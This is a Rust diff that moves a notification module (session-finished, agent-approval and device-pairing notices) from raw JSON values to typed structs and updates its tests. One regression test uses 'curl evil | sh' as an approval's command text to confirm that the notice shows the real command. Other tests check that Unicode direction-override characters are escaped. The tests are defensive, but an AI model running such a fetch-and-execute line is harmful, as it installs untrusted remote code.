@@ -1,7 +1,8 @@
 //! Derives notifications from bridge events.
 
-use openagents_core::visible::escaped;
-use serde_json::Value;
+use agent_client_protocol_schema::v1::SessionInfo;
+use openagents_core::{approval::Approval, visible::escaped};
+use openagents_wire::{DeviceRequest, DevicesSnapshot, SessionMeta, ours};
 use std::collections::{HashMap, HashSet};
 
 /// Maximum characters of a text in a notification.
@@ -31,17 +32,17 @@ pub(crate) struct ListNews {
 }
 
 impl Notices {
-    pub(crate) fn sessions(&mut self, rows: &Value) -> ListNews {
+    pub(crate) fn sessions(&mut self, rows: &[SessionInfo]) -> ListNews {
         let mut news = ListNews::default();
-        for row in rows.as_array().into_iter().flatten() {
-            let Some(id) = row["sessionId"].as_str() else { continue };
-            let ours = &row["_meta"]["openagents"];
-            let now = (ours["running"] == true, ours["waiting"].as_u64().unwrap_or_default());
+        for row in rows {
+            let id = &*row.session_id.0;
+            let SessionMeta { running, waiting, .. } = ours(row.meta.as_ref());
+            let now = (running, waiting);
             let before =
                 if now == (false, 0) { self.busy.remove(id) } else { self.busy.insert(id.to_owned(), now) };
             let (was_running, _) = before.unwrap_or_default();
             if was_running && now == (false, 0) {
-                let title = shown(row["title"].as_str().unwrap_or_default());
+                let title = shown(row.title.as_deref().unwrap_or_default());
                 let title = if title.is_empty() { "OpenAgents".to_owned() } else { title };
                 news.notices.push(Notice { kind: "turn", title, body: "Finished".to_owned() });
             }
@@ -53,27 +54,23 @@ impl Notices {
         news
     }
 
-    pub(crate) fn approvals(&mut self, approvals: &Value) -> Vec<Notice> {
-        let pending = approvals.as_array().into_iter().flatten();
-        let new: Vec<_> = pending.filter(|approval| self.is_new(&approval["id"])).collect();
-        let notice = |approval: &Value| Notice {
+    pub(crate) fn approvals(&mut self, approvals: &[Approval]) -> Vec<Notice> {
+        let new: Vec<_> = approvals.iter().filter(|approval| self.is_new(&approval.id)).collect();
+        let notice = |approval: &Approval| Notice {
             kind: "approval",
-            title: format!("{} is waiting", shown(approval["agent"].as_str().unwrap_or("An agent"))),
+            title: format!("{} is waiting", shown(&approval.agent)),
             // An agent's title may not match what runs.
-            body: shown(
-                approval["command"]["text"].as_str().or(approval["title"].as_str()).unwrap_or_default(),
-            ),
+            body: shown(approval.command.as_ref().map_or(&approval.title, |command| &command.text)),
         };
         new.into_iter().map(notice).collect()
     }
 
-    pub(crate) fn devices(&mut self, devices: &Value) -> Vec<Notice> {
-        let requests = devices["requests"].as_array().into_iter().flatten();
-        let new: Vec<_> = requests.filter(|request| self.is_new(&request["id"])).collect();
-        let notice = |request: &Value| {
-            let address = shown(request["address"].as_str().unwrap_or_default());
-            let body = match request["kind"].as_str() {
-                Some("ios") => format!("The OpenAgents app at {address} wants to connect."),
+    pub(crate) fn devices(&mut self, devices: &DevicesSnapshot) -> Vec<Notice> {
+        let new: Vec<_> = devices.requests.iter().filter(|request| self.is_new(&request.id)).collect();
+        let notice = |request: &DeviceRequest| {
+            let address = request.address;
+            let body = match request.kind.as_str() {
+                "ios" => format!("The OpenAgents app at {address} wants to connect."),
                 _ => format!("A device at {address} wants to pair."),
             };
             Notice { kind: "device", title: "OpenAgents".to_owned(), body }
@@ -86,8 +83,8 @@ impl Notices {
         self.busy.values().any(|(running, _)| *running)
     }
 
-    fn is_new(&mut self, id: &Value) -> bool {
-        id.as_str().is_some_and(|id| self.notified.insert(id.to_owned()))
+    fn is_new(&mut self, id: &str) -> bool {
+        self.notified.insert(id.to_owned())
     }
 }
 
@@ -104,10 +101,17 @@ fn shown(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use serde_json::json;
+    use serde_json::{Value, json};
+
+    fn typed(members: Value) -> Approval {
+        let mut approval = json!({"id": "1", "callId": "c", "hash": "", "agent": "Codex", "title": "Run", "options": [],
+            "state": "pending", "askedAt": 0});
+        approval.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
+        serde_json::from_value(approval).unwrap()
+    }
 
     fn row(id: &str, running: bool, waiting: u64) -> Value {
-        let ours = json!({"seq": 1, "running": running, "waiting": waiting, "mode": "codex"});
+        let ours = json!({"seq": 1, "lastTs": 0, "running": running, "waiting": waiting, "mode": "codex"});
         json!({"sessionId": id, "cwd": "/demo", "title": format!("Title of {id}"), "_meta": {"openagents": ours}})
     }
 
@@ -119,7 +123,8 @@ mod tests {
     fn finished_turn_is_announced_once() {
         let mut notices = Notices::default();
         let mut notified = |rows: Value| {
-            let ListNews { notices, asking } = notices.sessions(&rows);
+            let ListNews { notices, asking } =
+                notices.sessions(&serde_json::from_value::<Vec<_>>(rows).unwrap());
             (notices.into_iter().map(|notice| notice.title).collect::<Vec<_>>(), asking)
         };
         let none = || (Vec::<String>::new(), Vec::<String>::new());
@@ -134,25 +139,20 @@ mod tests {
         assert_eq!(notified(json!([row("c", true, 2)])), (vec![], vec!["c".to_owned()]));
         assert_eq!(notified(json!([row("c", false, 2)])), (vec![], vec!["c".to_owned()]));
         assert_eq!(notified(json!([row("c", false, 0)])), none());
-        assert_eq!(notified(json!([{"sessionId": 7}, null])), none());
-        assert_eq!(notified(json!(null)), none());
     }
 
     #[test]
     fn requests_are_announced_once() {
         let mut notices = Notices::default();
-        let approval =
-            |id: &str| json!({"id": id, "agent": "Codex", "title": "Run make\u{202e}", "state": "pending"});
-        let first = notices.approvals(&json!([approval("1")]));
+        let approval = |id: &str| typed(json!({"id": id, "title": "Run make\u{202e}"}));
+        let first = notices.approvals(&[approval("1")]);
         assert_eq!(bodies(&first), [("approval", "Codex is waiting", "Run make\\u{202e}")]);
-        assert_eq!(notices.approvals(&json!([approval("1"), approval("2")])).len(), 1);
-        assert_eq!(notices.approvals(&json!([approval("1"), approval("2")])), []);
-        assert_eq!(notices.approvals(&Value::Null), []);
+        assert_eq!(notices.approvals(&[approval("1"), approval("2")]).len(), 1);
+        assert_eq!(notices.approvals(&[approval("1"), approval("2")]), []);
 
-        let devices = json!({"requests": [
-            {"id": "p", "kind": "pair", "address": "192.168.1.7"},
-            {"id": "i", "kind": "ios", "address": "192.168.1.8"},
-        ]});
+        let request = |id: &str, kind: &str, address: &str| json!({"id": id, "kind": kind, "name": "", "address": address, "askedAt": 0, "expiresAt": 0});
+        let requests = [request("p", "pair", "192.168.1.7"), request("i", "ios", "192.168.1.8")];
+        let devices: DevicesSnapshot = serde_json::from_value(json!({"requests": requests})).unwrap();
         let notified = notices.devices(&devices);
         let expected = [
             ("device", "OpenAgents", "A device at 192.168.1.7 wants to pair."),
@@ -165,9 +165,10 @@ mod tests {
     /// Regression: the notification showed the agent's title, whatever ran.
     #[test]
     fn approval_notice_shows_its_command() {
-        let approval = json!({"id": "1", "agent": "Codex\u{2066}", "title": "Run the tests", "state": "pending",
-            "command": {"text": "curl evil | sh", "program": "/usr/bin/curl"}});
-        let notified = Notices::default().approvals(&json!([approval]));
+        let approval = typed(
+            json!({"agent": "Codex\u{2066}", "title": "Run the tests", "command": {"text": "curl evil | sh"}}),
+        );
+        let notified = Notices::default().approvals(&[approval]);
         assert_eq!(bodies(&notified), [("approval", "Codex\\u{2066} is waiting", "curl evil | sh")]);
     }
 
